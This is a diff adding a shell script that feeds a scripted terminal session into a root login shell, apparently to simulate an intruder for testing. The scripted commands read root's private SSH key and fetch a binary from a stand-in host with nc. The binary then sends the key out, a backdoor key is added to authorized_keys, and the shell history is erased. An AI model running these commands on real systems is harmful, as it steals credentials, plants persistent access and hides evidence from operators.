@@ -1,0 +1,12 @@
+# SPDX-License-Identifier: Apache-2.0
+# Somebody at a terminal: commands are typed, one after the other, with time to read the answers.
+while ! test -e /tmp/go; do sleep 0.1; done
+typed() {
+	for line in whoami 'ls -la /root' 'cat /root/.ssh/id_ed25519' 'nc 203.0.113.66 8001 >/tmp/sync; chmod 755 /tmp/sync' \
+		'/tmp/sync 203.0.113.66 4444 /root/.ssh/id_ed25519' 'echo "ssh-ed25519 AAAA insider" >>/root/.ssh/authorized_keys' \
+		'rm -f /root/.ash_history' exit; do
+		sleep 0.2
+		echo "$line"
+	done
+}
+typed | /usr/bin/login /bin/sh
